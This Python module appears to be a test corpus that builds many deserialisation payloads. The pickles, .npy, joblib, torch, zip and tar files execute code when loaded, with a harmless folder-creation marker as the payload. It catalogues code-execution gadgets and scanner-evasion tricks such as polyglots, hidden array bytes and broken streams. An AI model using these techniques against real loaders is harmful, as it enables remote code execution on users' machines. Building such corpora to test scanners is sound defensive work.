"""Pickles and archives that do something when they are loaded: here, make a folder whose name they are given.

`PAYLOADS` maps the name of each kind to (how it is loaded, a function from the path of the folder to bytes). Each is
proved to be live by `fire_all` in a process of its own: one that does nothing there would prove nothing here.
"""

from __future__ import annotations

import bz2
import copyreg
import gzip
import io
import lzma
import os
import pickle
import struct
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Callable

import gadgets

Make = Callable[[str], bytes]
PAYLOADS: dict[str, tuple[str, Make]] = {}

P2, P3, P4, P5 = b"\x80\x02", b"\x80\x03", b"\x80\x04", b"\x80\x05"


# ------------------------------------------------------------------------------------------- an assembler


def text(value):
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def short(value):
    data = value.encode()
    assert len(data) < 256
    return b"\x8c" + bytes([len(data)]) + data


def name(module, attribute):
    return f"c{module}\n{attribute}\n".encode()


def stack(module, attribute):
    return short(module) + short(attribute) + b"\x93"


def call(callee, *args):
    return callee + b"(" + b"".join(args) + b"tR"


def obj(value):
    """The instructions of an honest pickle, without its header and its end."""
    return pickle.dumps(value, 2)[2:-1]


MKDIR = name("posix", "mkdir")


def shot(path):
    """An expression that makes the folder."""
    return call(MKDIR, text(path))


class Reduce:
    """Whatever is asked for, as an honest pickler would write it."""

    def __init__(self, callee, *args, state=None):
        self.parts = (callee, args) if state is None else (callee, args, state)

    def __reduce__(self):
        return self.parts


def bomb(path):
    """An object whose pickle makes the folder."""
    return Reduce(os.mkdir, path)


def kind(title, loader="pickle"):
    def add(make):
        assert title not in PAYLOADS
        PAYLOADS[title] = (loader, make)
        return make

    return add


def raw(title, make, loader="pickle"):
    kind(title, loader)(make)


# ------------------------------------------------------------------------------------------- every way to a call

raw("GLOBAL, REDUCE", lambda path: shot(path) + b".")
raw("GLOBAL, REDUCE with protocol 2", lambda path: P2 + shot(path) + b".")
raw("STACK_GLOBAL, REDUCE", lambda path: P4 + call(stack("posix", "mkdir"), text(path)) + b".")
for code, proto in ((0, "0"), (1, "1"), (2, "2"), (3, "3"), (4, "4"), (5, "5")):
    raw(f"as a pickler writes it, protocol {proto}", lambda path, code=code: pickle.dumps(bomb(path), code))
raw(
    "STACK_GLOBAL with names from the memo",
    lambda path: P4 + short("posix") + b"\x940" + short("mkdir") + b"\x940h\x00h\x01\x93" + text(path) + b"\x85R.",
)
raw(
    "STACK_GLOBAL with names by LONG_BINGET and GET",
    lambda path: P4 + short("posix") + b"r\x00\x00\x01\x000" + short("mkdir") + b"p77\n0"
    + b"j\x00\x00\x01\x00g77\n\x93" + text(path) + b"\x85R.",
)  # fmt: skip
raw("STACK_GLOBAL, names as UNICODE lines", lambda path: P4 + b"Vposi\\u0078\nVmkdir\n\x93" + text(path) + b"\x85R.")
raw("STACK_GLOBAL, names as STRING lines", lambda path: P4 + b"S'posi\\x78'\nS'mkdir'\n\x93" + text(path) + b"\x85R.")
raw("STACK_GLOBAL, names as SHORT_BINSTRING", lambda path: P4 + b"U\x05posixU\x05mkdir\x93" + text(path) + b"\x85R.")
raw(
    "STACK_GLOBAL, names as BINSTRING and BINUNICODE8",
    lambda path: P4 + b"T\x05\0\0\0posix\x8d\x05\0\0\0\0\0\0\0mkdir\x93" + text(path) + b"\x85R.",
)
raw(
    "STACK_GLOBAL out of order, by DUP and POP",
    lambda path: P4 + short("posix") + b"20" + short("mkdir") + b"\x93" + text(path) + b"\x85R.",
)
raw("INST", lambda path: b"(" + text(path) + b"iposix\nmkdir\n.")
raw("INST of a class", lambda path: b"(" + text(path) + b"igadgets\nInit\n.")
raw("OBJ", lambda path: b"(" + name("gadgets", "Init") + text(path) + b"o.")
raw("OBJ of a function", lambda path: b"(" + MKDIR + text(path) + b"o.")
raw("NEWOBJ", lambda path: P2 + name("gadgets", "New") + text(path) + b"\x85\x81.")
raw("NEWOBJ_EX", lambda path: P4 + stack("gadgets", "New") + b")}" + short("keyword") + text(path) + b"s\x92.")
raw("REDUCE of a class", lambda path: call(name("gadgets", "Init"), text(path)) + b".")
raw("REDUCE of a class with a metaclass", lambda path: call(name("gadgets", "WithMeta"), text(path)) + b".")
raw(
    "REDUCE of an instance that can be called",
    lambda path: P2 + name("gadgets", "Called") + b")\x81" + text(path) + b"\x85R.",
)
raw("BUILD by __setstate__", lambda path: P2 + name("gadgets", "State") + b")\x81" + text(path) + b"b.")
raw(
    "BUILD by an object's own __setstate__",
    lambda path: P2 + name("gadgets", "Plain") + b")\x81}" + text("__setstate__") + MKDIR + b"sb" + text(path) + b"b.",
)
raw(
    "BUILD by a property",
    lambda path: P2 + name("gadgets", "Setter") + b")\x81N}" + text("path") + text(path) + b"s\x86b.",
)
raw("BUILD on a class", lambda path: name("gadgets", "WithMeta") + b"N}" + text("path") + text(path) + b"s\x86b.")
raw("BUILD on an object of a module", lambda path: name("gadgets", "hook") + text(path) + b"b.")
raw(
    "BUILD that makes a list of another class",
    lambda path: (
        P2
        + name("gadgets", "Plain")
        + b")\x81N}"
        + text("__class__")
        + name("gadgets", "State")
        + b"s\x86b"
        + text(path)
        + b"b."
    ),
)
raw("SETITEM on an object of a module", lambda path: name("gadgets", "registry") + text("k") + text(path) + b"s.")
raw(
    "SETITEMS on an object of a module",
    lambda path: name("gadgets", "registry") + b"(" + text("k") + text(path) + b"u.",
)
raw("APPEND on an object of a module", lambda path: name("gadgets", "listener") + text(path) + b"a.")
raw("APPENDS on an object of a module", lambda path: name("gadgets", "listener") + b"(" + text(path) + b"e.")
raw("ADDITEMS on an object of a module", lambda path: P4 + name("gadgets", "heard") + b"(" + text(path) + b"\x90.")
raw(
    "SETITEM on a dict of another class",
    lambda path: P2 + name("gadgets", "Registry") + b")\x81" + text("k") + text(path) + b"s.",
)
raw(
    "APPEND through __getattr__",
    lambda path: P2 + name("gadgets", "Attributes") + b")\x81}" + text("path") + text(path) + b"sbNa.",
)
raw("EXT1", lambda path: P2 + b"\x82\xf0" + text(path) + b"\x85R.", "extension")
raw("EXT2", lambda path: P2 + b"\x83\xf1\xf1" + text(path) + b"\x85R.", "extension")
raw("EXT4", lambda path: P2 + b"\x84\xf2\xf2\xf2\x02" + text(path) + b"\x85R.", "extension")
raw("PERSID", lambda path: b"P" + path.encode() + b"\n.", "persistent")
raw("BINPERSID", lambda path: P2 + text(path) + b"Q.", "persistent")
raw("a name with a dot", lambda path: P4 + call(stack("gadgets", "Outer.Inner.fire"), text(path)) + b".")
raw(
    "a name of Python 2",
    lambda path: P2 + call(name("__builtin__", "eval"), text(f"__import__('os').mkdir({path!r})")) + b".",
)
raw("a module of Python 2", lambda path: call(name("commands", "getoutput"), text(f"mkdir {path}")) + b".")
raw("copyreg.__newobj__", lambda path: call(name("copyreg", "__newobj__"), name("gadgets", "New"), text(path)) + b".")
raw(
    "copyreg.__newobj_ex__",
    lambda path: (
        call(name("copyreg", "__newobj_ex__"), name("gadgets", "New"), b")", b"}" + text("keyword") + text(path) + b"s")
        + b"."
    ),
)
raw(
    "copyreg._reconstructor",
    lambda path: (
        call(name("copyreg", "_reconstructor"), name("gadgets", "New"), name("gadgets", "New"), text(path)) + b"."
    ),
)
raw("an object that ends", lambda path: P2 + name("gadgets", "Ends") + b")\x81}" + text("path") + text(path) + b"sb0N.")
raw(
    "the hash of a key",
    lambda path: P2 + b"}" + name("gadgets", "Hashes") + b")\x81}" + text("path") + text(path) + b"sbNs.",
)
raw(
    "two keys that are compared",
    lambda path: P2 + b"}" + (name("gadgets", "Equals") + b")\x81}" + text("path") + text(path) + b"sbNs") * 2 + b".",
)
raw(
    "the hash of a member of a set",
    lambda path: P4 + b"(" + stack("gadgets", "Hashes") + b")\x81}" + text("path") + text(path) + b"sb\x91.",
)
raw("a result that is thrown away", lambda path: P2 + shot(path) + b"0N.")
raw("a result below a mark", lambda path: P2 + b"(" + shot(path) + b"1N.")
raw("a callable from the memo", lambda path: P2 + MKDIR + b"q\x050h\x05" + text(path) + b"\x85R.")
raw(
    "a callable that is the result of a call",
    lambda path: (
        call(
            method(name("gadgets", "Outer"), "Inner") + b"0" + method(call(name("gadgets", "Called")), "__call__"),
            text(path),
        )
        + b"."
    ),
)
raw("behind 5,000 other instructions", lambda path: P2 + b"N0" * 5000 + shot(path) + b".")
raw("inside 200 lists", lambda path: P2 + b"]" * 200 + shot(path) + b"a" * 200 + b".")
raw("as the value of a dict, by DICT", lambda path: b"(" + text("k") + shot(path) + b"d.")
raw("in frames", lambda path: P4 + b"\x95" + struct.pack("<Q", len(shot(path)) + 1) + shot(path) + b".")
raw("protocol 255 in the middle", lambda path: P2 + shot(path) + b"\x80\x04.")


# ------------------------------------------------------------------------------------------- names of Python


def by_name(title, callee, *arguments):
    """`arguments` with {path} in them are filled in."""

    def make(path):
        args = [arg(path) if callable(arg) else arg for arg in arguments]
        return P2 + call(name(*callee), *args) + b"."

    raw(title, make)


def said(template):
    return lambda path: text(template.format(path=path))


def listed(*templates):
    return lambda path: obj([template.format(path=path) for template in templates])


CODE = "__import__('os').mkdir({path!r})"
SHELL = "mkdir {path}"
for title, callee, *arguments in (
    ("os.system", ("os", "system"), said(SHELL)),
    ("posix.system", ("posix", "system"), said(SHELL)),
    ("os.popen", ("os", "popen"), said("mkdir {path}; true")),
    ("os.makedirs", ("os", "makedirs"), said("{path}")),
    ("os.posix_spawn", ("os", "posix_spawn"), text("/bin/mkdir"), listed("mkdir", "{path}"), b"}"),
    ("subprocess.Popen", ("subprocess", "Popen"), listed("mkdir", "{path}")),
    ("subprocess.call", ("subprocess", "call"), listed("mkdir", "{path}")),
    ("subprocess.check_output", ("subprocess", "check_output"), listed("mkdir", "{path}")),
    ("subprocess.run", ("subprocess", "run"), listed("mkdir", "{path}")),
    ("builtins.eval", ("builtins", "eval"), said(CODE)),
    ("builtins.exec", ("builtins", "exec"), said(CODE)),
    ("timeit.timeit", ("timeit", "timeit"), said(CODE), text("pass"), name("time", "perf_counter"), b"K\x01"),
    ("profile.run", ("cProfile", "run"), said(CODE), b"N", b"K\x02"),
    ("shutil.copytree", ("shutil", "copytree"), text("/proc/self/fdinfo"), said("{path}")),
    ("tempfile.mkdtemp", ("tempfile", "mkdtemp"), text(""), said("{path}."), text("/")),
    ("builtins.open", ("builtins", "open"), said("{path}"), text("w")),
    ("io.FileIO", ("_io", "FileIO"), said("{path}"), text("w")),
    ("codecs.open", ("io", "open"), said("{path}"), text("w")),
    ("sqlite3.connect", ("sqlite3", "connect"), said("{path}")),
    ("logging.FileHandler", ("logging", "FileHandler"), said("{path}")),
    ("zipfile.ZipFile", ("zipfile", "ZipFile"), said("{path}"), text("w")),
    ("shelve.open", ("dbm.dumb", "_Database"), said("{path}"), b"M\xb6\x01", text("c")),
    ("gzip.GzipFile", ("gzip", "GzipFile"), said("{path}"), text("w")),
    ("functools.reduce", ("functools", "reduce"), name("posix", "mkdir"), lambda path: obj([path, 0o777])),
    ("deque over map", ("collections", "deque"), lambda path: call(name("builtins", "map"), MKDIR, obj([path]))),
    ("list over itertools.starmap", ("builtins", "list"),
     lambda path: call(name("itertools", "starmap"), MKDIR, obj([(path,)]))),
    ("pickle.loads", ("pickle", "loads"),
     lambda path: call(name("_codecs", "encode"), text((shot(path) + b".").decode("latin1")), text("latin1"))),
):  # fmt: skip
    by_name(title, callee, *arguments)


def method(owner, attribute):
    return call(name("builtins", "getattr"), owner, text(attribute))


raw("bdb.Bdb().run", lambda path: call(method(call(name("bdb", "Bdb")), "run"), text(CODE.format(path=path))) + b".")
raw("pathlib.Path().mkdir", lambda path: call(method(call(name("pathlib", "PosixPath"), text(path)), "mkdir")) + b".")
raw(
    "operator.methodcaller()",
    lambda path: (
        call(
            call(name("operator", "methodcaller"), text("mkdir"), text(path)),
            call(name("importlib", "import_module"), text("os")),
        )
        + b"."
    ),
)
raw("functools.partial()", lambda path: call(call(name("functools", "partial"), MKDIR, text(path))) + b".")
raw(
    "functools.partial by BUILD",
    lambda path: (
        call(
            call(name("functools", "partial"), name("builtins", "print")) + b"(" + MKDIR + b"(" + text(path) + b"t}Ntb"
        )
        + b"."
    ),
)
raw(
    "getattr of an import",
    lambda path: call(method(call(name("importlib", "import_module"), text("os")), "mkdir"), text(path)) + b".",
)
raw(
    "operator.attrgetter",
    lambda path: (
        call(
            call(
                call(name("operator", "attrgetter"), text("path.os.mkdir")),
                call(name("builtins", "__import__"), text("os")),
            ),
            text(path),
        )
        + b"."
    ),
)
raw(
    "code.InteractiveInterpreter().runcode",
    lambda path: (
        call(method(call(name("code", "InteractiveInterpreter")), "runsource"), text(CODE.format(path=path))) + b"."
    ),
)
raw(
    "builtins.compile and exec",
    lambda path: (
        call(
            name("builtins", "exec"),
            call(name("builtins", "compile"), text(CODE.format(path=path)), text("x"), text("exec")),
        )
        + b"."
    ),
)
raw(
    "a Thread that starts",
    lambda path: (
        b"("
        + call(name("threading", "Thread"), b"N", MKDIR, b"N", b"(" + text(path) + b"t")
        + b"q\x01"
        + call(method(b"h\x01", "start"))
        + call(method(b"h\x01", "join"))
        + b"t."
    ),
)


# ------------------------------------------------------------------------------------------- gadgets of libraries

raw(
    "numpy: runstring",
    lambda path: call(name("numpy.testing._private.utils", "runstring"), text(CODE.format(path=path)), b"}") + b".",
)
raw(
    "numpy: crackfortran.myeval",
    lambda path: call(name("numpy.f2py.crackfortran", "myeval"), text(CODE.format(path=path)), b"}", b"}") + b".",
)
raw(
    "numpy: memmap",
    lambda path: call(name("numpy", "memmap"), text(path), text("u1"), text("w+"), b"K\x00", b"K\x04") + b".",
)
raw("numpy: savetxt", lambda path: call(name("numpy", "savetxt"), text(path), obj([1.0])) + b".")
raw("numpy: vectorize", lambda path: call(call(name("numpy", "vectorize"), MKDIR), text(path)) + b".")
raw(
    "numpy: frompyfunc",
    lambda path: call(call(name("numpy", "frompyfunc"), MKDIR, b"K\x01", b"K\x01"), text(path)) + b".",
)
raw(
    "numpy: __randomstate_ctor",
    lambda path: call(name("numpy.random._pickle", "__randomstate_ctor"), text(path), MKDIR) + b".",
)
raw("numpy: save", lambda path: call(name("numpy", "save"), text(path + ".npy"), obj([1])) + b".")
raw(
    "numpy: load",
    lambda path: call(name("numpy", "load"), call(name("_io", "BytesIO"), obj(npy(path))), b"N", b"\x88") + b".",
)
raw(
    "numpy: scalar of an object",
    lambda path: P2 + call(name("numpy._core.multiarray", "scalar"), obj_dtype(), shot(path)) + b".",
)
raw(
    "pandas: read_pickle",
    lambda path: call(name("pandas", "read_pickle"), call(name("_io", "BytesIO"), obj(shot(path) + b"."))) + b".",
)
raw(
    "pandas: DataFrame.apply",
    lambda path: call(method(call(name("pandas", "Series"), obj([path])), "map"), MKDIR) + b".",
)
raw("pandas: to_csv", lambda path: call(method(call(name("pandas", "Series"), obj([1])), "to_csv"), text(path)) + b".")
raw("pandas: pipe", lambda path: call(name("pandas.core.common", "pipe"), text(path), MKDIR) + b".")
raw(
    "pandas: apply_if_callable",
    lambda path: call(name("pandas.core.common", "apply_if_callable"), MKDIR, text(path)) + b".",
)
raw(
    "scikit-learn: FunctionTransformer",
    lambda path: (
        call(method(call(name("sklearn.preprocessing", "FunctionTransformer"), MKDIR), "transform"), text(path)) + b"."
    ),
)
raw("scikit-learn: get_data_home", lambda path: call(name("sklearn.datasets", "get_data_home"), text(path)) + b".")
raw("scikit-learn: an estimator with a payload", lambda path: estimator(path=path))
raw(
    "scikit-learn: metric of a function",
    lambda path: call(method(call(name("sklearn.metrics", "make_scorer"), MKDIR), "_score_func"), text(path)) + b".",
)
raw(
    "joblib: load",
    lambda path: call(name("joblib", "load"), call(name("_io", "BytesIO"), obj(shot(path) + b"."))) + b".",
)
raw("joblib: BatchedCalls", lambda path: call(batched(path)) + b".")
raw("joblib: mkdirp", lambda path: call(name("joblib.disk", "mkdirp"), text(path)) + b".")
raw("cloudpickle: a function by value", lambda path: cloudpickled(lambda: os.mkdir(path)))
raw("cloudpickle: loads", lambda path: call(name("cloudpickle", "loads"), obj(shot(path) + b".")) + b".")
raw("cloudpickle: a class by value", lambda path: cloudpickled_class(path=path))
raw(
    "cloudpickle: subimport",
    lambda path: (
        call(method(call(name("cloudpickle.cloudpickle", "subimport"), text("os")), "mkdir"), text(path)) + b"."
    ),
)
raw(
    "scipy: _FunctionWrapper",
    lambda path: call(call(name("scipy._lib._util", "_FunctionWrapper"), MKDIR, b")"), text(path)) + b".",
)
raw("torch: load", lambda path: torch_call(path=path))


def npy(path):
    import numpy as np

    file = io.BytesIO()
    np.save(file, np.array([bomb(path)], object), allow_pickle=True)
    return file.getvalue()


def obj_dtype():
    import numpy as np

    return pickle.dumps(np.dtype(object), 2)[2:-1]


def estimator(path):
    from sklearn.linear_model import LinearRegression

    model = LinearRegression()
    model.coef_ = bomb(path)
    return pickle.dumps(model)


def batched(path):
    return call(
        name("joblib.parallel", "BatchedCalls"),
        b"]" + b"(" + MKDIR + b"(" + text(path) + b"t}ta",
        b"(" + call(name("joblib._parallel_backends", "SequentialBackend")) + b"K\x01t",
    )


def cloudpickled(function):
    import cloudpickle

    return P4 + cloudpickle.dumps(function, 4)[11:-1] + b")R."


def cloudpickled_class(path):
    import cloudpickle

    namespace: dict[str, object] = {"path": path}
    exec("class Local:\n    def __init__(self, path):\n        import os\n        os.mkdir(path)\n", namespace)
    return P4 + cloudpickle.dumps(namespace["Local"], 4)[11:-1] + text(path) + b"\x85R."


def torch_call(path):
    return P2 + call(
        name("torch.serialization", "_legacy_load"), call(name("_io", "BytesIO"), obj(legacy(path))), b"N",
        call(name("importlib", "import_module"), text("pickle")),
    ) + b"."  # fmt: skip


def legacy(path):
    return (
        pickle.dumps(0x1950A86A20F9469CFC6C, 2)
        + pickle.dumps(1001, 2)
        + pickle.dumps({}, 2)
        + pickle.dumps(bomb(path), 2)
    )


# ------------------------------------------------------------------------------------------- wrapped


def zipped(members, method=zipfile.ZIP_STORED):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as archive:
        for member, data in members.items():
            archive.writestr(member, data)
    return file.getvalue()


def joblibbed(value, **options):
    import joblib

    file = io.BytesIO()
    joblib.dump(value, file, **options)
    return file.getvalue()


def tarred(data):
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        info = tarfile.TarInfo("pickle")
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return file.getvalue()


def frame(path):
    import pandas as pd

    return pickle.dumps(pd.DataFrame({"a": pd.Series([bomb(path)], dtype=object)}))


def array(path):
    import numpy as np

    return np.array([1, "x", bomb(path)], object)


def torch_archive(path):
    import torch

    file = io.BytesIO()
    torch.save({"weights": torch.zeros(2), "more": bomb(path)}, file)
    return file.getvalue()


def hidden_in_array(path):
    """For whoever reads a file of joblib with pickle: the bytes of an array are instructions then."""
    import numpy as np

    code = b"0" + shot(path) + b"."
    wrapper = name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81"
    state = {"subclass": np.ndarray, "shape": (len(code),), "order": "C", "dtype": np.dtype("u1"), "allow_mmap": False}
    return P2 + wrapper + obj(state) + b"b" + code + b"."


def polyglot(path):
    """A pickle that is also a zip with nothing bad in it."""
    return P2 + shot(path) + b"." + zipped({"readme.txt": b"harmless"})


raw("numpy: an array of objects", lambda path: pickle.dumps(array(path)))
raw(
    "numpy: a record with an object",
    lambda path: pickle.dumps(__import__("numpy").array([(1.0, bomb(path))], [("a", "f8"), ("b", "O")])),
)
raw("pandas: a column of objects", frame)
raw(".npy", npy, "numpy")
raw(".npz", lambda path: zipped({"a.npy": npy(path)}), "npz")
raw(".npz, deflated", lambda path: zipped({"a.npy": npy(path)}, zipfile.ZIP_DEFLATED), "npz")
raw("joblib", lambda path: joblibbed({"model": bomb(path)}), "joblib")
raw(
    "joblib, in an array of objects",
    lambda path: joblibbed({"x": __import__("numpy").zeros(5), "y": array(path)}),
    "joblib",
)
for how in ("zlib", "gzip", "bz2", "lzma", "xz"):
    raw(f"joblib, {how}", lambda path, how=how: joblibbed([array(path)], compress=(how, 3)), "joblib")
raw("joblib, read with pickle", hidden_in_array)
raw("gzip", lambda path: gzip.compress(shot(path) + b"."), "gzip")
raw(
    "gzip, broken after the payload",
    lambda path: gzip.compress(shot(path) + b".")[:-6] + b"\0\0\0\0\0\0",
    "gzip stream",
)
raw("gzip in gzip", lambda path: gzip.compress(gzip.compress(shot(path) + b".")), "gzip twice")
raw("xz", lambda path: lzma.compress(shot(path) + b"."), "xz")
raw("lzma alone", lambda path: lzma.compress(shot(path) + b".", lzma.FORMAT_ALONE), "xz")
raw("bz2", lambda path: bz2.compress(shot(path) + b"."), "bz2")
raw("zlib", lambda path: zlib.compress(shot(path) + b"."), "zlib")
raw("zip", lambda path: zipped({"model/data.pkl": shot(path) + b"."}), "zip")
raw("zip, deflated", lambda path: zipped({"data.pkl": shot(path) + b"."}, zipfile.ZIP_DEFLATED), "zip")
raw("zip in zip", lambda path: zipped({"a.zip": zipped({"data.pkl": shot(path) + b"."})}), "zip twice")
raw("zip with the payload under another ending", lambda path: zipped({"readme.txt": shot(path) + b"."}), "zip")
raw("tar", lambda path: tarred(shot(path) + b"."), "tar")
raw("tar in gzip", lambda path: gzip.compress(tarred(shot(path) + b".")), "tar gzip")
raw("torch archive", torch_archive, "torch")
raw("torch, before zip", legacy, "torch")
raw("a pickle that is a zip, too", polyglot)
raw("a second pickle in the stream", lambda path: pickle.dumps({"a": 1}) + shot(path) + b".", "stream")
raw("a third pickle in the stream", lambda path: pickle.dumps(1) + pickle.dumps(2) + P2 + shot(path) + b".", "stream")
raw("broken after the payload: nothing follows", lambda path: P2 + shot(path))
raw("broken after the payload: no instruction", lambda path: P2 + shot(path) + b"\xff.")
raw("broken after the payload: an empty stack", lambda path: P2 + shot(path) + b"000.")
raw("broken after the payload: an unknown memo", lambda path: P2 + shot(path) + b"h\x77.")
raw("broken after the payload: half an argument", lambda path: P2 + shot(path) + b"X\xff\xff\xff\x7fab")
raw(
    "broken after the payload: a name that is not there",
    lambda path: P2 + shot(path) + name("nowhere", "nothing") + b".",
)
raw(
    "broken before the payload would end: a frame too long",
    lambda path: P2 + shot(path) + b"\x95\xff\xff\xff\xff\0\0\0\0.",
)


# ------------------------------------------------------------------------------------------- proof that they are live


def _register():
    copyreg.add_extension("posix", "mkdir", 0xF0)
    copyreg.add_extension("os", "makedirs", 0xF1F1)
    copyreg.add_extension("gadgets", "fire", 0x2F2F2F2)


class _Persistent(pickle.Unpickler):
    def persistent_load(self, given):
        gadgets.fire(given)


def _stream(data):
    file = io.BytesIO(data)
    for _ in range(3):
        pickle.load(file)


def _zip_loads(data):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return pickle.loads(archive.read(archive.namelist()[0]))


def _zip_twice(data):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return _zip_loads(archive.read(archive.namelist()[0]))


def _numpy(data):
    import numpy as np

    return np.load(io.BytesIO(data), allow_pickle=True)


def _joblib(data):
    import joblib

    return joblib.load(io.BytesIO(data))


def _torch(data):
    import torch

    return torch.load(io.BytesIO(data), weights_only=False)


def _tar(data, mode="r:"):
    with tarfile.open(fileobj=io.BytesIO(data), mode=mode) as archive:
        return pickle.loads(archive.extractfile("pickle").read())


def _gzip_stream(data):
    with gzip.open(io.BytesIO(data)) as file:
        pickle.load(file)
        file.read()


LOADERS = {
    "pickle": pickle.loads, "extension": pickle.loads, "persistent": lambda data: _Persistent(io.BytesIO(data)).load(),
    "stream": _stream, "numpy": _numpy, "npz": lambda data: _numpy(data)["a"], "joblib": _joblib, "torch": _torch,
    "gzip": lambda data: pickle.loads(gzip.decompress(data)), "gzip stream": _gzip_stream,
    "gzip twice": lambda data: pickle.loads(gzip.decompress(gzip.decompress(data))),
    "xz": lambda data: pickle.loads(lzma.decompress(data)), "bz2": lambda data: pickle.loads(bz2.decompress(data)),
    "zlib": lambda data: pickle.loads(zlib.decompress(data)), "zip": _zip_loads, "zip twice": _zip_twice, "tar": _tar,
    "tar gzip": lambda data: _tar(data, "r:gz"),
}  # fmt: skip


def fire_all(folder):
    """Load every file of the folder with its own loader, each in a child; the marker is beside it."""
    _register()
    import cloudpickle  # noqa: F401
    import joblib  # noqa: F401
    import pandas as pd  # noqa: F401
    import sklearn.datasets  # noqa: F401
    import torch  # noqa: F401

    for title in sorted(os.listdir(folder)):
        if not title.endswith(".bin"):
            continue
        child = os.fork()
        if child == 0:
            try:
                quiet = os.open(os.devnull, os.O_WRONLY)
                os.dup2(quiet, 1), os.dup2(quiet, 2)
                with open(os.path.join(folder, title), "rb") as file:
                    loader, data = file.readline().decode().strip(), file.read()
                LOADERS[loader](data)
            except BaseException as error:  # noqa: BLE001 - a payload may raise anything
                with open(os.path.join(folder, title[:-4] + ".error"), "w") as file:
                    file.write(f"{type(error).__name__}: {error}")
            finally:
                os._exit(0)
        os.waitpid(child, 0)


if __name__ == "__main__":
    fire_all(sys.argv[1])
